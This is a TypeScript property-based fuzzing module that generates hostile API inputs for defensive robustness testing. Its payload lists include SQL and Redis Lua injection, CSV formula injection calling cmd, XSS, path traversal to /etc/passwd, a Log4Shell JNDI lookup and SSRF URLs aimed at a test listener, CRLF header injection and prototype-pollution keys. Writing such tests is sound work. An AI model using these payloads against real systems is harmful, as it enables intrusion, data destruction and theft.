// What callers should not send, and now and then do: fast-check arbitraries for values, paths,
// queries and headers. Every text of a value carries the canary, so that an echo can be seen.
import fc, { type Arbitrary } from 'fast-check';
import type { Operation, Schema } from './document.ts';

/** In every text that is planted, and in nothing that we say by ourselves. */
export const CANARY = 'zq7canary';

export const prototypeNames = [
  '__proto__',
  'constructor',
  'toString',
  'prototype',
  'hasOwnProperty',
];

/** `address`: of a listener that nobody is to call. */
export function hostileText(address: string): Arbitrary<string> {
  return fc.constantFrom(
    CANARY,
    `${CANARY}\u0000`,
    `${CANARY}\r\nX-Injected: 1`,
    `\u202e${CANARY}\ud83d\ude00\ufffe`,
    `${CANARY}\ud800`,
    `'; drop table tenants; -- ${CANARY}`,
    `${CANARY}{p00}:events:*`,
    `") return redis.call("FLUSHALL") -- ${CANARY}`,
    `=cmd|'/c ${CANARY}'!A1`,
    `<script>alert('${CANARY}')</script>`,
    `../../../../etc/passwd${CANARY}`,
    `\${jndi:ldap://${address}/${CANARY}}`,
    `http://${address}/${CANARY}`,
    `file:///etc/passwd?${CANARY}`,
    CANARY.repeat(500),
    ...prototypeNames.map((name) => `${name}`),
  );
}

export function hostileValue(address: string): Arbitrary<unknown> {
  const text = hostileText(address);
  const deep = fc.integer({ min: 1, max: 2_000 }).map((depth) => {
    let value: unknown = CANARY;
    for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { a: value };
    return value;
  });
  return fc.oneof(
    { weight: 4, arbitrary: text },
    fc.constantFrom<unknown>(null, true, false, 0, -1, -0, 1e308, 2 ** 53, 0.1, '', [], {}),
    fc.constantFrom<unknown>([CANARY], { a: CANARY }, [[[]]], '2026-02-30T00:00:00Z'),
    fc.integer({ min: 100, max: 1_500 }).map((length) => Array<string>(length).fill(CANARY)),
    deep,
    fc.constantFrom(...prototypeNames).map((name) => owning({}, name, { a: CANARY })),
    fc.jsonValue(),
  );
}

/** With a member of its own, also where assigning would set the prototype. */
export function owning(object: object, name: string, value: unknown): object {
  return Object.defineProperty({ ...object }, name, {
    value,
    enumerable: true,
    configurable: true,
    writable: true,
  });
}

/** Mostly of the schema's shape; limits that reach far beyond a request are not exhausted. */
export function fitting(schema: Schema): Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(fitting));
  switch (schema.type) {
    case 'object':
      return fittingObject(schema);
    case 'array': {
      const { minItems = 0, maxItems = 4 } = schema;
      const maxLength = Math.min(maxItems, minItems + 3);
      return fc.array(fitting(schema.items ?? {}), { minLength: minItems, maxLength });
    }
    case 'string':
      return fittingText(schema);
    case 'integer':
      return fc.maxSafeInteger().map((n) => within(n, schema));
    case 'number':
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return fc.jsonValue();
  }
}

function within(n: number, { minimum = -1e15, maximum = 1e15 }: Schema): number {
  const span = maximum - minimum + 1;
  return minimum + (Math.abs(n) % Math.min(span, 2 ** 50));
}

function fittingText({ pattern, minLength = 0, maxLength = 60 }: Schema): Arbitrary<string> {
  const text = pattern ? fc.stringMatching(new RegExp(pattern)) : fc.string({ minLength });
  return text.map((made) => made.slice(0, maxLength));
}

function fittingObject({ properties = {}, required = [], patternProperties }: Schema) {
  const model = Object.fromEntries(
    Object.entries(properties).map(([name, schema]) => [name, fitting(schema)]),
  );
  if (!patternProperties) return fc.record(model, { requiredKeys: required });
  const [[pattern, value]] = Object.entries(patternProperties) as [[string, Schema]];
  return fc.dictionary(fc.stringMatching(new RegExp(pattern)), fitting(value), { maxKeys: 3 });
}

/** Somewhere in the value something is replaced, left out or added. */
export function mutated(value: unknown, address: string): Arbitrary<unknown> {
  const places = placesOf(value);
  const place = fc.constantFrom(...places);
  const changes = fc.oneof(
    { weight: 4, arbitrary: hostileValue(address).map((put) => ({ kind: 'put', put }) as const) },
    fc.constant({ kind: 'drop' } as const),
    fc
      .tuple(fc.constantFrom(...prototypeNames, 'extra', '', 'a'.repeat(300)), fc.jsonValue())
      .map(([name, put]) => ({ kind: 'add', name, put }) as const),
  );
  return fc.tuple(place, changes).map(([at, change]) => changed(value, at, change));
}

type Change =
  { kind: 'put'; put: unknown } | { kind: 'drop' } | { kind: 'add'; name: string; put: unknown };

function placesOf(value: unknown, at: string[] = []): string[][] {
  if (value === null || typeof value !== 'object') return [at];
  return [at, ...Object.entries(value).flatMap(([name, inner]) => placesOf(inner, [...at, name]))];
}

function changed(value: unknown, [name, ...rest]: string[], change: Change): unknown {
  if (name === undefined) {
    if (change.kind === 'put') return change.put;
    if (change.kind === 'drop') return undefined;
    const isObject = value !== null && typeof value === 'object' && !Array.isArray(value);
    return isObject ? owning(value, change.name, change.put) : [change.put];
  }
  const inner = changed((value as Record<string, unknown>)[name], rest, change);
  if (Array.isArray(value)) return value.with(Number(name), inner);
  return owning(value as object, name, inner);
}

/** What takes the place of a path's parameter, already encoded or wilfully not. */
export function hostileSegment(address: string): Arbitrary<string> {
  return fc.oneof(
    hostileText(address).map((text) => encodeURIComponent(text.toWellFormed())),
    fc.constantFrom(
      '..',
      '%2e%2e',
      '..%2f..%2fetc',
      'a%2Fb',
      '%00',
      '%',
      '%zz',
      '%c0%af',
      '%ff',
      ';',
      '.',
      '',
      '%0d%0aX-Injected:1',
      '__proto__',
      'constructor',
      'toString',
      '{code}',
      '*',
      ':id',
      '%252e',
      'a'.repeat(4_000),
    ),
  );
}

export function hostileQuery(operation: Operation, address: string): Arbitrary<string> {
  const names = operation.parameters.filter((each) => each.in === 'query').map(({ name }) => name);
  const name = fc.constantFrom(...names, ...prototypeNames, 'extra', '', 'limit', 'cursor');
  const text = hostileText(address).map((each) => encodeURIComponent(each.toWellFormed()));
  const forged = fc
    .constantFrom('1:', '1:-1', `1:${CANARY}`, '2:a', '1:\u0000', '1:9007199254740993', '1:1e3')
    .map((cursor) => Buffer.from(cursor).toString('base64url'));
  const odd = fc.constantFrom('0', '-1', '201', '1.5', '1e2', '0x10', 'NaN', 'null', '[]', '%zz');
  const positions = fc.constantFrom('events.0.99999', 'events.99.1', 'nothing.1.1', 'events.0.0');
  const pair = fc
    .tuple(name, fc.oneof(text, forged, odd, positions))
    .map(([key, value]) => `${key}=${value}`);
  return fc.array(pair, { minLength: 1, maxLength: 3 }).map((pairs) => pairs.join('&'));
}

export function hostileHeaders(address: string): Arbitrary<[string, string][]> {
  const visible = hostileText(address).map((text) => text.replace(/[^\x20-\x7e]/g, '?'));
  const header = fc.oneof(
    fc.tuple(
      fc.constantFrom('Idempotency-Key', 'traceparent', 'Prefer', 'ce-source', 'Cookie'),
      visible,
    ),
    fc.tuple(
      fc.constantFrom('X-Forwarded-For', 'X-Forwarded-Host', 'Forwarded', 'Origin', 'Referer'),
      fc.constant(`http://${address}/${CANARY}`),
    ),
    fc.constantFrom<[string, string]>(
      ['Content-Type', 'application/cloudevents+json'],
      ['Content-Type', 'application/cloudevents-batch+json'],
      ['Content-Type', `text/${CANARY}`],
      ['Content-Encoding', 'gzip'],
      ['X-Request-Id', '\u00e9'],
      ['X-Request-Id', `${'x'.repeat(200)}${CANARY}`],
      ['Prefer', 'wait=ledger; timeout=1'],
      ['Prefer', `wait=${CANARY}, timeout=99999999999`],
      ['ce-specversion', '1.0'],
      ['Expect', 'a-miracle'],
      ['Accept', `application/${CANARY}`],
      ['Host', address],
      ['Range', 'bytes=0-1'],
      ['If-None-Match', '*'],
    ),
  );
  return fc.array(header, { minLength: 1, maxLength: 3 });
}
